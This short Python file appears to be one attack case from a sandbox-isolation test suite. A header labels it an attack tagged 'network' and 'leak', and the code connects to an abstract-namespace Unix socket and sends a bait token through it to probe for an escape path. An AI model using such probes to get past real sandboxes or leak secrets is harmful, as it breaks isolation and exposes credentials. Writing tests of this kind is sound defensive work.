# /// attack
# tries = "Calls a service at a Unix socket that has no place in the file system."
# points = 0
# shows = ["network", "leak"]
# ///
# %% before count
import socket

with socket.socket(socket.AF_UNIX) as line:
    line.connect("\0" + bait["abstract"])
    line.sendall(bait["token"].encode())
    print(line.recv(1000).decode())
    print(line.recv(1000).decode())
